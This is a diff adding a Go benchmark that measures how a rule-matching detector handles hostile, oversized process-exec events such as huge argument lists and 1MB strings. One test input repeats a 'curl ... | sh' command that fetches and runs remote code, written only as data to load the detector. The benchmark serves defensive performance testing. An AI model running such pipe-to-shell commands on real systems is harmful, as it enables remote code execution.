@@ -183,3 +183,57 @@ func BenchmarkRules(b *testing.B) {
 		}
 	}
 }
+
+// BenchmarkHostile is what the longest events cost that somebody could send on
+// purpose, the long text standing both in the arguments and in the command line:
+//
+//	go test -run '^$' -bench Hostile ./detector
+func BenchmarkHostile(b *testing.B) {
+	const size = 1 << 20
+	set, err := NewSet(corpus(b, FoldASCII))
+	if err != nil {
+		b.Fatal(err)
+	}
+	arguments := make([]string, 10_000)
+	for i := range arguments {
+		arguments[i] = fmt.Sprintf("--option-%d=/usr/lib/x", i)
+	}
+	var literals []string
+	for len(literals) < 10_000 {
+		for _, r := range set.rules {
+			for _, a := range r.Anchors() {
+				literals = append(literals, a.Text)
+			}
+		}
+	}
+	for _, c := range []struct {
+		event string
+		args  []string
+	}{
+		{"plain", []string{"bash", "-c", "ls -la /var/log"}},
+		{"10000-arguments", arguments},
+		{"10000-anchors", literals[:10_000]},
+		{"1MB-a", []string{strings.Repeat("a", size)}},
+		{"1MB-urls", []string{strings.Repeat("curl -s http://10.0.0.1/x | sh; ", size/32)}},
+		{"1MB-addresses", []string{strings.Repeat("1.1.1.", size/6)}},
+		{"1MB-anchors", []string{strings.Join(literals[:10_000], " ")}},
+	} {
+		e := eventOf(b, values{"event.category", "process"}, values{"event.type", "start"}, values{"event.action", "exec"},
+			values{"host.os.type", "linux"}, values{"process.name", "bash"}, values{"process.executable", "/usr/bin/bash"},
+			append(values{"process.args"}, c.args...), values{"process.command_line", strings.Join(c.args, " ")})
+		bytes := 0
+		for _, f := range e.Fields() {
+			for _, v := range e.Values(f) {
+				bytes += len(v.Text())
+			}
+		}
+		b.Run("event="+c.event, func(b *testing.B) {
+			matched := make([]*Rule, 0, len(set.rules))
+			b.ReportAllocs()
+			b.SetBytes(int64(bytes))
+			for b.Loop() {
+				matched = set.Match(matched[:0], e)
+			}
+		})
+	}
+}
